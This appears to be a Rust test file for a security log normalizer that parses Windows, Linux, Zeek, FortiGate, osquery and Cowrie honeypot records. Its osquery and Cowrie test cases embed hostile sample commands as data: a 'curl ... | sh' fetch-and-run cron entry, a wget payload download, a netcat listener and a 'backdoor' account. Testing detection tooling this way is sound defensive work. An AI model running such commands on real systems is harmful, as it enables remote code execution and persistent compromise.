//! Every shipped pack on realistic records, malformed ones included.

use super::*;
use crate::parse::{syslog::SyslogOptions, Format, Parser};
use ward_engine::quarantine::QuarantineRecord;

fn run(lines: &[&str]) -> (Vec<serde_json::Value>, Vec<QuarantineRecord>) {
    let packs = load_packs(&builtin::all_refs(), &Resources::new(".")).unwrap();
    run_with(packs, Unmatched::Keep, lines)
}

fn run_with(packs: Vec<Pack>, unmatched: Unmatched, lines: &[&str]) -> (Vec<serde_json::Value>, Vec<QuarantineRecord>) {
    let mut parser =
        Parser::new("parse".into(), Format::Auto, 1 << 20, SyslogOptions { year: Some(2024), ..Default::default() });
    let mut norm = Normalizer::new("normalize".into(), Arc::new(packs), unmatched, false);
    let mut b = EventBatch::new();
    let o = b.origin_index(&"src".into(), &"f".into());
    for (i, l) in lines.iter().enumerate() {
        b.push_raw(o, i as u64 + 1, l.as_bytes()).expect("small test records fit");
    }
    let mut parsed = OperatorOutput::default();
    parser.process(b, 0, &mut parsed);
    let mut out = OperatorOutput::default();
    let mut q = parsed.quarantine;
    for batch in parsed.events {
        norm.process(batch, 0, &mut out);
    }
    q.extend(out.quarantine);
    let events = out.events.iter().flat_map(|b| (0..b.len()).map(move |i| b.row_to_json(i))).collect();
    (events, q)
}

const SYSMON_1: &str = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2025-10-24T23:41:00.601559Z"}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-07.corp.local"},"EventData":{"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -enc SQBFAFgA","ProcessId":4242,"ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\alice","Hashes":"SHA256=ABC"}}}"##;

#[test]
fn windows_sysmon_process_creation() {
    let (e, q) = run(&[SYSMON_1]);
    assert!(q.is_empty(), "{q:?}");
    let e = &e[0];
    assert_eq!(e["@timestamp"], "2025-10-24T23:41:00.601Z");
    assert_eq!(e["host.name"], "ws-07.corp.local");
    assert_eq!(e["event.code"], "1");
    assert_eq!(e["event.dataset"], "windows.sysmon");
    assert_eq!(e["event.category"], "process");
    assert_eq!(e["event.module"], "windows");
    assert_eq!(e["process.name"], "powershell.exe");
    assert_eq!(e["process.executable"], "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    assert_eq!(e["process.pid"], 4242);
    assert_eq!(e["process.parent.name"], "explorer.exe");
    assert_eq!(e["user.name"], "CORP\\alice");
    // Unmapped input stays, under its input name.
    assert_eq!(e["ext"]["Event.EventData.Hashes"], "SHA256=ABC");
    assert!(e["ext"].get("Event.EventData.Image").is_none(), "mapped fields are renamed");
    assert_eq!(e["event.kind"], "event");
    assert_eq!(e["event.id"].as_str().unwrap().len(), 16);
}

#[test]
fn windows_security_failed_logon_and_group_change() {
    let failed = r##"{"Event":{"System":{"EventID":4625,"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00Z"}},"Channel":"Security","Computer":"dc1"},"EventData":{"TargetUserName":"bob","TargetDomainName":"CORP","IpAddress":"::ffff:203.0.113.7","IpPort":"-","LogonType":"3"}}}"##;
    let added = r##"{"Event":{"System":{"EventID":4732,"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:05:00Z"}},"Channel":"Security","Computer":"dc1"},"EventData":{"TargetUserName":"Administrators","SubjectUserName":"bob","MemberName":"CN=bob,OU=Users,DC=corp"}}}"##;
    let (e, q) = run(&[failed, added]);
    assert!(q.is_empty(), "{q:?}");
    assert_eq!(e[0]["event.outcome"], "failure");
    assert_eq!(e[0]["event.action"], "logon-failed");
    assert_eq!(e[0]["user.name"], "bob");
    assert_eq!(e[0]["source.ip"], "203.0.113.7");
    assert!(e[0].get("source.port").is_none(), "`-` is absent");
    assert_eq!(e[0]["ext"]["Event.EventData.IpPort"], "-", "kept, not lost");
    assert_eq!(e[1]["event.action"], "added-member-to-group");
    assert_eq!(e[1]["user.name"], "bob");
    assert_eq!(e[1]["user.target.name"], "CN=bob,OU=Users,DC=corp");
    assert_eq!(e[1]["ext"]["Event.EventData.TargetUserName"], "Administrators");
}

#[test]
fn windows_bad_timestamp_is_quarantined() {
    let bad = r##"{"Event":{"System":{"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"yesterday"}},"Channel":"Security"}}}"##;
    let missing = r##"{"Event":{"System":{"EventID":1,"Channel":"Security"}}}"##;
    let (e, q) = run(&[bad, missing]);
    assert!(e.is_empty());
    assert_eq!(q[0].reason, Reason::InvalidTimestamp);
    assert!(q[0].detail.contains("@timestamp"), "{}", q[0].detail);
    assert_eq!(q[1].reason, Reason::MissingField);
    assert_eq!(q[1].offset, 2);
}

#[test]
fn linux_sshd_and_sudo() {
    let (e, q) = run(&[
        "<38>Mar  5 10:00:01 WEB-01 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 52211 ssh2",
        "<38>Mar  5 10:00:09 web-01 sshd[4243]: Accepted publickey for bob from 10.0.0.8 port 40022 ssh2: RSA SHA256:x",
        "<85>Mar  5 10:01:00 web-01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
        "<38>Mar  5 10:00:01 web-01 sshd[1]: Failed password for bob from not-an-ip port 22 ssh2",
    ]);
    assert_eq!(e[0]["event.outcome"], "failure");
    assert_eq!(e[0]["user.name"], "admin");
    assert_eq!(e[0]["source.ip"], "203.0.113.9");
    assert_eq!(e[0]["source.port"], 52211);
    assert_eq!(e[0]["host.name"], "web-01");
    assert_eq!(e[0]["@timestamp"], "2024-03-05T10:00:01.000Z");
    assert_eq!(e[0]["event.dataset"], "linux.auth");
    assert_eq!(e[1]["event.outcome"], "success");
    assert_eq!(e[1]["ext"]["ssh.method"], "publickey");
    assert_eq!(e[2]["user.name"], "bob");
    assert_eq!(e[2]["user.target.name"], "root");
    assert_eq!(e[2]["process.command_line"], "/bin/bash");
    assert_eq!(q.len(), 1);
    assert_eq!(q[0].reason, Reason::InvalidValue);
    assert!(q[0].detail.contains("source.ip"));
}

#[test]
fn zeek_conn_dns_json_and_tsv() {
    let (e, q) = run(&[
        r##"{"ts":1700000000.25,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":51515,"id.resp_h":"198.51.100.7","id.resp_p":443,"proto":"tcp","service":"ssl","orig_bytes":1200,"resp_bytes":54000,"conn_state":"SF"}"##,
        r##"{"ts":1700000001.0,"uid":"C2","id.orig_h":"10.0.0.5","id.orig_p":5353,"id.resp_h":"10.0.0.1","id.resp_p":53,"proto":"udp","query":"Evil.Example.COM","qtype_name":"A","rcode_name":"NOERROR","answers":["1.2.3.4","5.6.7.8"]}"##,
        "#separator \\x09",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tconn_state",
        "1700000002.5\tC3\t10.0.0.9\t1234\t10.0.0.10\t22\ttcp\t-\tS0",
    ]);
    assert!(q.is_empty(), "{q:?}");
    assert_eq!(e[0]["event.dataset"], "zeek.conn");
    assert_eq!(e[0]["@timestamp"], "2023-11-14T22:13:20.250Z");
    assert_eq!(e[0]["destination.port"], 443);
    assert_eq!(e[0]["destination.bytes"], 54000);
    assert_eq!(e[0]["event.id"], "C1");
    assert_eq!(e[1]["event.dataset"], "zeek.dns");
    assert_eq!(e[1]["dns.question.name"], "evil.example.com");
    assert_eq!(e[1]["dns.answers"], serde_json::json!(["1.2.3.4", "5.6.7.8"]));
    assert_eq!(e[2]["event.dataset"], "zeek.conn");
    assert_eq!(e[2]["source.port"], 1234);
    assert!(e[2].get("network.protocol").is_none());
}

#[test]
fn fortigate_kv_syslog() {
    let (e, q) = run(&[
        r##"<189>date=2024-01-02 time=03:04:05 devname="FGT-EDGE" devid="FG100F" eventtime=1704164645123456789 logid="0000000013" type="traffic" subtype="forward" srcip=10.1.1.5 srcport=49152 dstip=185.220.101.4 dstport=445 action="deny" policyid=7 sentbyte=0 rcvdbyte=0"##,
        r##"<189>devname="FGT" logid="1" eventtime=bad"##,
    ]);
    assert_eq!(e.len(), 1);
    assert_eq!(e[0]["@timestamp"], "2024-01-02T03:04:05.123Z");
    assert_eq!(e[0]["host.name"], "fgt-edge");
    assert_eq!(e[0]["destination.port"], 445);
    assert_eq!(e[0]["event.outcome"], "failure");
    assert_eq!(e[0]["event.dataset"], "fortigate.traffic");
    assert_eq!(e[0]["rule.id"], "7");
    assert_eq!(q[0].reason, Reason::InvalidTimestamp);
}

#[test]
fn generic_json_and_unmatched_records() {
    let (e, _) =
        run(&[r##"{"timestamp":"2024-01-02 03:04:05","host":"app1","msg":"hello","custom":{"a":1}}"##, "k=v other=1"]);
    assert_eq!(e[0]["@timestamp"], "2024-01-02T03:04:05.000Z");
    assert_eq!(e[0]["host.name"], "app1");
    assert_eq!(e[0]["message"], "hello");
    assert_eq!(e[0]["ext"]["custom.a"], 1);
    // key=value with no pack: kept as extension fields.
    assert_eq!(e[1]["ext"]["k"], "v");
    let packs = load_packs(&["builtin:windows".to_string()], &Resources::new(".")).unwrap();
    let (e, q) = run_with(packs, Unmatched::Quarantine, &["k=v"]);
    assert!(e.is_empty());
    assert_eq!(q[0].reason, Reason::UnknownFormat);
}

#[test]
fn pack_errors_have_positions() {
    let err = Pack::from_yaml("p.yaml", "name: x\nfields:\n  - { from: a, to: b, bogus: 1 }\n").unwrap_err();
    assert!(err.starts_with("p.yaml:3:"), "{err}");
    assert!(err.contains("bogus"), "{err}");
    let err =
        Pack::from_yaml("p.yaml", "name: x\nrules:\n  - extract: { from: m, pattern: '(?P<a>x', fields: {a: b} }\n")
            .unwrap_err();
    assert!(err.contains("extract pattern"), "{err}");
    let err = Pack::from_yaml("p.yaml", "name: x\ntimestamp_formats: [nope]\n").unwrap_err();
    assert!(err.contains("unknown timestamp format"), "{err}");
    assert!(load_packs(&["builtin:nope".to_string()], &Resources::new(".")).is_err());
}

#[test]
fn osquery_differential_rows_carry_their_difference() {
    let row = |name: &str, action: &str, columns: &str| {
        format!(
            r#"{{"name":"pack_lab_{name}","hostIdentifier":"web-1","calendarTime":"Mon Jan  5 08:00:00 2026 UTC","unixTime":1767600000,"epoch":0,"counter":3,"numerics":false,"columns":{columns},"action":"{action}"}}"#
        )
    };
    let lines = [
        row(
            "listening_ports",
            "added",
            r#"{"address":"0.0.0.0","port":"4444","pid":"2231","protocol":"6","path":"/tmp/.x/nc","name":"nc"}"#,
        ),
        row(
            "listening_ports",
            "removed",
            r#"{"address":"0.0.0.0","port":"8080","pid":"100","protocol":"6","path":"/usr/bin/python3","name":"python3"}"#,
        ),
        row("users", "added", r#"{"username":"backdoor","uid":"1337","shell":"/bin/bash"}"#),
        row(
            "startup_items",
            "added",
            r#"{"name":"updater","path":"/etc/cron.d/updater","command":"curl -s http://198.51.100.7/u | sh"}"#,
        ),
        row(
            "processes",
            "snapshot",
            r#"{"pid":"1","name":"init","path":"/sbin/init","cmdline":"/sbin/init","parent":"0"}"#,
        ),
        // Not osquery: an action osquery never writes.
        row("users", "changed", r#"{"username":"x"}"#),
    ];
    let (e, q) = run(&lines.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(q.is_empty(), "{q:?}");
    assert_eq!(e[0]["event.dataset"], "osquery.listening_ports");
    assert_eq!(e[0]["event.module"], "osquery");
    assert_eq!(e[0]["@timestamp"], "2026-01-05T08:00:00.000Z");
    assert_eq!(e[0]["host.name"], "web-1");
    assert_eq!(e[0]["destination.port"], 4444);
    assert_eq!(e[0]["process.executable"], "/tmp/.x/nc");
    assert_eq!(e[0]["event.type"], "creation");
    assert_eq!(e[0]["ext"]["ward.diff"], "1");
    assert_eq!(e[1]["ext"]["ward.diff"], "-1");
    assert_eq!(e[1]["event.action"], "removed");
    assert_eq!(e[2]["event.dataset"], "osquery.users");
    assert_eq!(e[2]["user.name"], "backdoor");
    assert_eq!(e[3]["event.dataset"], "osquery.autoruns");
    assert_eq!(e[3]["process.command_line"], "curl -s http://198.51.100.7/u | sh");
    assert_eq!(e[4]["event.dataset"], "osquery.processes");
    assert!(e[4]["ext"].get("ward.diff").is_none(), "a snapshot row is no change");
    assert_ne!(e[5]["event.module"], "osquery");
}

#[test]
fn cowrie_sessions_logins_commands_and_downloads() {
    let base = r#""sensor":"honeypot-1","src_ip":"203.0.113.50","src_port":51234,"dst_ip":"10.0.5.5","dst_port":22,"session":"a1b2c3d4e5f6","protocol":"ssh""#;
    let lines = [
        format!(
            r#"{{"eventid":"cowrie.session.connect","timestamp":"2026-01-05T08:00:00.123456Z",{base},"message":"New connection"}}"#
        ),
        format!(
            r#"{{"eventid":"cowrie.login.failed","timestamp":"2026-01-05T08:00:01.000000Z",{base},"username":"admin","password":"admin"}}"#
        ),
        format!(
            r#"{{"eventid":"cowrie.login.success","timestamp":"2026-01-05T08:00:02.000000Z",{base},"username":"root","password":"123456"}}"#
        ),
        format!(
            r#"{{"eventid":"cowrie.command.input","timestamp":"2026-01-05T08:00:03.000000Z",{base},"input":"wget http://198.51.100.7/x.sh"}}"#
        ),
        format!(
            r#"{{"eventid":"cowrie.session.file_download","timestamp":"2026-01-05T08:00:04.000000Z",{base},"url":"http://198.51.100.7/x.sh","shasum":"ab12","outfile":"var/lib/cowrie/downloads/ab12"}}"#
        ),
        format!(
            r#"{{"eventid":"cowrie.session.closed","timestamp":"2026-01-05T08:00:09.000000Z",{base},"duration":9.1}}"#
        ),
    ];
    let (e, q) = run(&lines.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(q.is_empty(), "{q:?}");
    assert!(e
        .iter()
        .all(|e| e["event.module"] == "cowrie" && e["host.name"] == "honeypot-1" && e["source.ip"] == "203.0.113.50"));
    assert_eq!(e[0]["event.dataset"], "cowrie.session");
    assert_eq!(e[0]["@timestamp"], "2026-01-05T08:00:00.123Z");
    assert_eq!((&e[1]["event.outcome"], &e[1]["user.name"]), (&"failure".into(), &"admin".into()));
    assert_eq!(e[2]["event.outcome"], "success");
    assert_eq!(e[3]["process.command_line"], "wget http://198.51.100.7/x.sh");
    assert_eq!(e[4]["url.full"], "http://198.51.100.7/x.sh");
    assert_eq!(e[4]["event.dataset"], "cowrie.file");
    assert_eq!(e[5]["ext"]["session"], "a1b2c3d4e5f6");
}

/// Rule gates only skip rules that would not run: every built-in pack gives the same events
/// with its gates as without them, on records where the gated field is present once, twice
/// (a multi-valued field), absent, and written by the pack's own rules.
#[test]
fn rule_gates_change_nothing_but_the_work() {
    let packs = load_packs(&builtin::all_refs(), &Resources::new(".")).unwrap();
    let windows = packs.iter().find(|p| p.name == "windows").expect("the windows pack");
    assert!(
        windows.gates.by_rule.iter().filter(|g| g.is_some()).count() >= windows.rules.len() / 2,
        "most Windows rules are gated: {:?}",
        windows.gates
    );
    let ungated: Vec<Pack> = packs
        .iter()
        .cloned()
        .map(|p| Pack { gates: pack::RuleGates { fields: vec![], by_rule: vec![None; p.rules.len()] }, ..p })
        .collect();
    let security = |code: &str| {
        format!(
            r##"{{"Event":{{"System":{{"EventID":{code},"TimeCreated":{{"#attributes":{{"SystemTime":"2024-05-01T10:00:00Z"}}}},"Channel":"Security","Computer":"dc1"}},"EventData":{{"TargetUserName":"bob","SubjectUserName":"alice","MemberName":"cn=x","TargetDomainName":"CORP","CommandLine":"cmd /c x","NewProcessName":"C:\\x.exe"}}}}}}"##
        )
    };
    let mut lines: Vec<String> = [
        "4624",
        "4625",
        "4672",
        "4688",
        "4728",
        "4634",
        "1",
        "9999",
        "\"4624\"",
        "[4624, 4625]",
        "[4624, 4624]",
        "null",
    ]
    .iter()
    .map(|c| security(c))
    .collect();
    lines.push(SYSMON_1.to_string());
    lines.push(SYSMON_1.replace("\"EventID\":1", "\"EventID\":[1,3]"));
    lines.push(SYSMON_1.replace("Microsoft-Windows-Sysmon/Operational", "Security"));
    lines.push(
        r#"<38>Jan  5 10:00:00 host sshd[42]: Failed password for root from 203.0.113.9 port 22 ssh2"#.to_string(),
    );
    lines.push(r#"date=2024-05-01 time=10:00:00 devname="fw" logid="0000000013" type="traffic" subtype="forward" srcip=10.0.0.1 dstip=10.0.0.2 action="deny""#.to_string());
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let gated = run_with(packs.clone(), Unmatched::Keep, &refs);
    let plain = run_with(ungated, Unmatched::Keep, &refs);
    assert_eq!(gated.0, plain.0);
    assert_eq!(format!("{:?}", gated.1), format!("{:?}", plain.1));
    assert_eq!(gated.0.len() + gated.1.len(), lines.len());
    for action in ["logged-in", "logon-failed", "process-created"] {
        assert!(gated.0.iter().any(|e| e["event.action"] == action), "a rule setting {action} ran");
    }
}
